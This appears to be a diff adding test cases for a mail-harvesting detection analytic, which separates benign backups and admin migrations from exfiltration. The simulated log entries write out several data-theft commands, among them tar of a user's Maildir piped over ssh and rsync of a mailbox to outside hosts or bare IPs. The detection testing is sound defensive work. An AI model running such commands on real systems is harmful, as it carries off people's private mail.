@@ -4,6 +4,7 @@ import { type Delivered, HostLog, MINUTE } from '../an0656-phishing-attachment-e
 import {
   atMostAt,
   factorsOf,
+  firesAt,
   recording,
   scanFolder,
   scanLog,
@@ -164,4 +165,63 @@ test("a person's own synchronisation of their own mail", async () => {
   const inbox = '/home/clerk/.thunderbird/x/Mail/Local Folders/Inbox';
   desktop.run('/usr/bin/nextcloud').connect('198.51.100.41', 443).read(inbox);
   atMostAt(await scanLog(log), 'informational');
+});
+
+test('own mail is packed onto a disk whose writes nobody records, and a talk is uploaded', async () => {
+  const log = new HostLog();
+  const { path } = log.deliver({ to: 'clerk' });
+  log.wait(MINUTE);
+  const shell = log.shell('clerk');
+  shell.run('/bin/tar -czf /mnt/disk/mail.tgz Maildir').read(path);
+  log.wait(MINUTE);
+  shell.run('/usr/bin/curl -s -T slides/talk.odp http://files.example.net/talks/').connect('203.0.113.80', 80);
+  shell.write('/home/clerk/.bash_history');
+  silent((await scanLog(log)).filter(alert => alert.analytic === 'AN1310'));
+});
+
+test('the notes of a tool that carries mail off are no place where it was staged', async () => {
+  const log = new HostLog();
+  const { path } = log.deliver({ to: 'clerk' });
+  log.wait(MINUTE);
+  const [tar, ssh] = log.shell('dev').pipeline('/bin/tar -c /home/clerk/Maildir', '/usr/bin/ssh vault.example.net cat');
+  tar?.read(path);
+  ssh?.connect('203.0.113.67', 22).write('/home/dev/.ssh/known_hosts');
+  const alert = firesAt(await scanLog(log), 'AN1310', 'medium');
+  assert.ok(!alert.story.includes('staged'), alert.story);
+});
+
+test('a scheduled backup keeps a copy of all homes and mailboxes on a disk of the host', async () => {
+  const log = new HostLog();
+  const mine = log.deliver({ to: 'clerk' });
+  const other = log.deliver({ to: 'buyer' });
+  for (let i = 0; i < 3; i++) {
+    const rsnapshot = log.cron('root', '/usr/bin/rsnapshot hourly').run('/usr/bin/perl -w /usr/bin/rsnapshot hourly');
+    rsnapshot.run('/usr/bin/rsync -a /home/ /srv/snap/hourly.0/localhost/').read(mine.path).fork().read(other.path);
+    log.wait(5 * MINUTE);
+  }
+  atMostAt(await scanLog(log), 'informational');
+});
+
+/** rsync of the clerk's box by `ops`, as root or not, to a host. */
+function moved(to: string, elevated: boolean): HostLog {
+  const log = new HostLog();
+  const { path } = log.deliver({ to: 'clerk' });
+  const shell = log.shell('ops');
+  shell.write('/home/ops/notes.txt');
+  log.wait(MINUTE);
+  const by = elevated ? shell.run('/usr/bin/sudo rsync', { who: { ...shell.who, uid: 0 } }) : shell;
+  by.run(`/usr/bin/rsync -aH /home/clerk/Maildir/ ${to}`).read(path).connect('198.51.100.30', 873);
+  return log;
+}
+
+test('an administrator moves a mailbox to another server of the domain', async () => {
+  const alerts = await scanLog(moved('rsync://mail2.example.org/in/', true));
+  atMostAt(alerts, 'informational');
+  assert.ok(factorsOf(storyOf(alerts, 'AN1310')).includes('to a host of the own domain'));
+});
+
+test('the same without the right to it is low; to another domain, or to a bare address, it is a harvest', async () => {
+  atMostAt(await scanLog(moved('ops@mail2.example.org:in/', false)), 'low');
+  for (const to of ['rsync://mail2.example.net/in/', 'rsync://198.51.100.30/in/', 'ops@example.org.example.net:in/'])
+    firesAt(await scanLog(moved(to, true)), 'AN1310', 'medium');
 });
